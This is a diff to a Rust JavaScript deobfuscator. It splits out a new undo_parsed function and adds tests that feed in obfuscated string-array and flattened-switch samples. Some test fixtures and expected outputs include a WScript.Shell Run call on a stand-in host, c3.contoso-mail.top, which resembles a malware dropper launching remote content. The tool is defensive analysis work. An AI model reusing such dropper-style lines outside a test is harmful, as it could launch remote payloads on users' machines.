@@ -23,6 +23,7 @@ mod scopes;
 mod spelling;
 mod statement;
 mod strings;
+mod targets;
 mod trace;
 mod value;
 
@@ -35,6 +36,7 @@ use crate::budget::Budget;
 use crate::limits::{MAX_LAYER, MAX_ROUNDS};
 use crate::peel::{Rewrite, Technique};
 use crate::script::Hosts;
+use targets::Targets;
 
 /// What is known of a text that is being written anew.
 #[derive(Debug, Default)]
@@ -57,6 +59,17 @@ pub fn undo(text: &str, budget: &mut Budget) -> Rewrite {
     if !budget.spend(text.len() / 32 + 1) {
         return Rewrite::default();
     }
+    match Targets::of(text, budget) {
+        // Functions do not say their text as it was written.
+        Some(targets) => {
+            let done = undo_parsed(&targets.text, Progress { rounds: 1, ..Progress::default() }, budget);
+            targets.shown(done, budget)
+        }
+        None => undo_parsed(text, Progress::default(), budget),
+    }
+}
+
+fn undo_parsed(text: &str, mut progress: Progress, budget: &mut Budget) -> Rewrite {
     if trace::is_symbols(text) {
         // What its signs make is said best by what is run in the end.
         let found = trace::found(text, budget);
@@ -64,7 +77,6 @@ pub fn undo(text: &str, budget: &mut Budget) -> Rewrite {
             return Rewrite { found, ..Rewrite::default() };
         }
     }
-    let mut progress = Progress::default();
     let mut current: Option<String> = None;
     for _ in 0..MAX_ROUNDS {
         let Some(next) = round(current.as_deref().unwrap_or(text), budget, &mut progress) else { break };
@@ -157,6 +169,56 @@ mod tests {
             "new ActiveXObject(\"WScript.Shell\").Run(\"http://c3.contoso-mail.top/x\", \"WScript.Shell\", \"Run\");\n";
         assert_eq!(done.text.as_deref(), Some(clear));
         assert!(done.steps.iter().any(|step| step.0 == Technique::StringArray), "{:?}", done.steps);
+    }
+
+    /// As long as a call of the decoder is left, so is what turns its list: here a flattened switch, which is put in
+    /// order as it is written, has calls that are read in the round after.
+    #[test]
+    fn a_list_is_turned_as_long_as_it_is_read() {
+        let text = format!(
+            r#"{STUB}
+            var e = d;
+            function f(u) {{
+                var m = d,
+                    q = {{ 'aBcDe': m('0x2'), 'fGhIj': function(a, b) {{ return a + b; }} }},
+                    r = '1|0|2'['split']('|'),
+                    c = 0;
+                while (!![]) {{
+                    switch (r[c++]) {{
+                        case '0': x[m('0x1')](m('0x0')); continue;
+                        case '1': x(q['fGhIj'](u, q['aBcDe'])); continue;
+                        case '2': return m('0x0');
+                    }}
+                    break;
+                }}
+            }}
+            f(e('0x1'));"#
+        );
+        let done = undo(&text, &mut Budget::new(text.len())).text.unwrap_or_default();
+        for clear in ["x(u + \"http://c3.contoso-mail.top/x\")", "x.Run(\"WScript.Shell\")", "f(\"Run\")"] {
+            assert!(done.contains(clear), "{clear}: {done}");
+        }
+        assert!(!done.contains("switch") && !done.contains("shift") && !done.contains("fGhIj"), "{done}");
+    }
+
+    #[test]
+    fn a_decoder_that_asks_for_its_own_text_is_undone_in_a_flattened_switch() {
+        let text = r#"
+            var l = [atob('UnVu'), atob('V1NjcmlwdC5TaGVsbA==')];
+            function d(i) { return (d + '').charCodeAt(0) === 102 ? l[i - 0] : ''; }
+            function f(u) {
+                var o = '1|0'['split']('|'), c = 0;
+                while (!![]) {
+                    switch (o[c++]) {
+                        case '0': x[d('0x0')](u); continue;
+                        case '1': x(d('0x1')); continue;
+                    }
+                    break;
+                }
+            }
+            f(1);"#;
+        let done = undo(text, &mut Budget::new(text.len())).text.unwrap_or_default();
+        assert!(done.contains("x(\"WScript.Shell\");\n\tx.Run(u);"), "{done}");
     }
 
     #[test]
